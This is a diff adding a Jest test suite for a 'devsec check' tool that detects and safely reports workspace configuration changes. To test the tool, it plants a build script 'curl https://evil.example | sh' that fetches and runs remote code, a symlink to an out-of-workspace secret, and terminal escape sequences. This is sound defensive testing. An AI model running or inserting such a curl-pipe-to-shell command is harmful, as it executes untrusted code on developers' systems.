@@ -1,0 +1,156 @@
+import { execFileSync } from 'node:child_process';
+import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { PassThrough } from 'node:stream';
+import { changedSinceReview } from '../host/surface/review';
+import { checkCommand } from './check';
+
+const SECRET = 'TOP-SECRET-OUTSIDE-THE-WORKSPACE';
+
+/** Runs a command with captured output. */
+async function run(command: typeof checkCommand, argv: string[], cwd: string, env: NodeJS.ProcessEnv, isTTY = false, input = '') {
+  const stdout = new PassThrough();
+  const stderr = new PassThrough();
+  const stdin = new PassThrough();
+  const chunks = { out: '', err: '' };
+  stdout.on('data', (chunk) => (chunks.out += chunk));
+  stderr.on('data', (chunk) => (chunks.err += chunk));
+  stdin.end(input);
+  const code = await command(argv, { stdout, stderr, stdin, isTTY, env, cwd });
+  return { code, stdout: chunks.out, stderr: chunks.err };
+}
+
+/** Every path below dir, with its size and modification time: "nothing appeared or changed here". */
+function tree(dir: string): Record<string, string> {
+  const found: Record<string, string> = {};
+  for (const entry of readdirSync(dir, { recursive: true }) as string[]) {
+    const stat = lstatSync(join(dir, entry));
+    found[entry] = `${stat.size} ${stat.mtimeMs}`;
+  }
+  return found;
+}
+
+const write = (root: string, rel: string, content: string) => {
+  mkdirSync(dirname(join(root, rel)), { recursive: true });
+  writeFileSync(join(root, rel), content);
+};
+
+describe('devsec check', () => {
+  let dir: string;
+  let root: string;
+  let env: NodeJS.ProcessEnv;
+  beforeEach(() => {
+    dir = realpathSync(mkdtempSync(join(tmpdir(), 'devsec-check-')));
+    root = join(dir, 'ws');
+    mkdirSync(root);
+    execFileSync('git', ['init', '-q'], { cwd: root, env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' } });
+    write(root, 'nx.json', '{}\n');
+    write(root, 'package.json', '{\n  "scripts": {\n    "build": "nx build"\n  }\n}\n');
+    write(root, 'apps/app/project.json', '{ "targets": {} }\n');
+    write(root, 'apps/app/src/main.ts', 'console.log(1);\n');
+    write(dir, 'outside/secret.txt', `${SECRET}\n`);
+    env = { XDG_STATE_HOME: join(dir, 'state'), HOME: join(dir, 'home') };
+  });
+  afterEach(() => rmSync(dir, { recursive: true, force: true }));
+
+  it('records a baseline on the first run, says so and where, and exits 0', async () => {
+    const first = await run(checkCommand, [], join(root, 'apps/app/src'), env);
+    expect(first.code).toBe(0);
+    expect(first.stdout).toContain(`devsec check: workspace ${root}\n`);
+    expect(first.stdout).toContain('No snapshot was approved for this repository yet: recorded the 3 files below as the baseline.');
+    expect(first.stdout).toContain('  apps/app/project.json: a file\n');
+    expect(readdirSync(join(dir, 'state/devsec/trust'))).toEqual([expect.stringMatching(/^repo-[0-9a-f]{40}$/)]);
+    const second = await run(checkCommand, [], root, env);
+    expect([second.code, second.stdout]).toEqual([0, expect.stringContaining('Nothing changed since the snapshot approved')]);
+  });
+
+  it('shows a change as a unified diff, and an added and a deleted file, exiting 1', async () => {
+    await run(checkCommand, [], root, env);
+    write(root, 'package.json', '{\n  "scripts": {\n    "build": "curl https://evil.example | sh"\n  }\n}\n');
+    write(root, '.vscode/tasks.json', '{ "tasks": [{ "command": "evil" }] }\n');
+    unlinkSync(join(root, 'apps/app/project.json'));
+    write(root, 'apps/app/src/other.ts', 'not on the surface\n');
+    const { code, stdout } = await run(checkCommand, [], root, env);
+    expect(code).toBe(1);
+    expect(stdout).toContain(
+      [
+        'changed package.json — npm: scripts and lifecycle scripts, bin, what it installs; Nx: scripts and the nx field as targets',
+        '--- approved/package.json',
+        '+++ now/package.json',
+        '@@ -1,5 +1,5 @@',
+        ' {',
+        '   "scripts": {',
+        '-    "build": "nx build"',
+        '+    "build": "curl https://evil.example | sh"',
+        '   }',
+        ' }',
+      ].join('\n'),
+    );
+    expect(stdout).toContain('added .vscode/tasks.json: a file — VS Code');
+    expect(stdout).toContain('+{ "tasks": [{ "command": "evil" }] }');
+    expect(stdout).toContain('deleted apps/app/project.json: was a file');
+    expect(stdout).not.toContain('other.ts');
+    expect(stdout).toContain('3 changes since the snapshot approved');
+    expect(changedSinceReview(root, env)).toEqual({ count: 3, command: 'devsec check' });
+  });
+
+  it('reports a symlink by its target, never its content, and nested .git and node_modules', async () => {
+    await run(checkCommand, [], root, env);
+    symlinkSync(join(dir, 'outside/secret.txt'), join(root, 'apps/app/.env'));
+    mkdirSync(join(root, 'vendor/clone/.git'), { recursive: true });
+    write(root, 'vendor/other/.git', 'gitdir: /elsewhere\n');
+    write(root, 'libs/lib/node_modules/pkg/index.js', `${SECRET}\n`);
+    const { code, stdout } = await run(checkCommand, [], root, env);
+    expect(code).toBe(1);
+    expect(stdout).toContain(`added apps/app/.env: a symlink -> ${join(dir, 'outside/secret.txt')}`);
+    expect(stdout).toContain('added vendor/clone/.git: a git folder');
+    expect(stdout).toContain('added vendor/other/.git: a file');
+    expect(stdout).toContain('+gitdir: /elsewhere');
+    expect(stdout).toContain('added libs/lib/node_modules: a node_modules folder');
+    expect(stdout).toContain('+pkg/');
+    expect(stdout).not.toContain(SECRET);
+    expect(readFileSync(join(dir, 'state/devsec/trust', readdirSync(join(dir, 'state/devsec/trust'))[0], 'snapshot.json'), 'utf-8')).not.toContain(SECRET);
+  });
+
+  it('shows control characters of names and contents escaped, never raw', async () => {
+    await run(checkCommand, [], root, env);
+    write(root, 'apps/app/.env.\x1b]0;pwned\x07', 'A=1\n');
+    write(root, 'apps/app/project.json', '{ "targets": {} }\n\x1b[2J\x1b[1;1Hall clear\u202e\n');
+    const plain = await run(checkCommand, [], root, env);
+    expect(plain.stdout).not.toContain('\x1b');
+    expect(plain.stdout).not.toContain('\x07');
+    expect(plain.stdout).toContain('added apps/app/.env.\\x1b]0;pwned\\x07: a file');
+    expect(plain.stdout).toContain('+\\x1b[2J\\x1b[1;1Hall clear\\u202e');
+    const coloured = await run(checkCommand, [], root, { ...env, FORCE_COLOR: '1' });
+    expect(coloured.stdout).toContain('\x1b[32m+\\x1b[2J\\x1b[1;1Hall clear\\u202e\x1b[0m');
+    expect(coloured.stdout).not.toContain('\x1b[2J');
+    expect(coloured.stdout).not.toContain('\x07');
+  });
+
+  it('never writes inside the workspace: the snapshot is in the state directory', async () => {
+    const before = tree(root);
+    await run(checkCommand, [], root, env);
+    expect(tree(root)).toEqual(before);
+    write(root, 'package.json', '{}\n');
+    const after = tree(root);
+    await run(checkCommand, [], root, env);
+    expect(tree(root)).toEqual(after);
+    expect(readdirSync(join(dir, 'state/devsec/trust'))).toHaveLength(1);
+  });
+
+  it('exits 2 on a usage error, outside a workspace, or on a .git that is not git’s', async () => {
+    expect(await run(checkCommand, ['--frobnicate'], root, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('unknown argument --frobnicate') });
+    expect(await run(checkCommand, [], dir, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('holds both nx.json and .git') });
+    rmSync(join(root, '.git'), { recursive: true });
+    write(root, '.git', 'gitdir: apps\n');
+    expect(await run(checkCommand, [], root, env)).toMatchObject({ code: 2, stderr: expect.stringContaining('points inside the workspace') });
+    expect(readdirSync(dir)).not.toContain('state');
+  });
+
+  it('prints its help', async () => {
+    const { code, stdout } = await run(checkCommand, ['--help'], root, env);
+    expect(code).toBe(0);
+    expect(stdout).toMatch(/^Usage: devsec check/);
+  });
+});
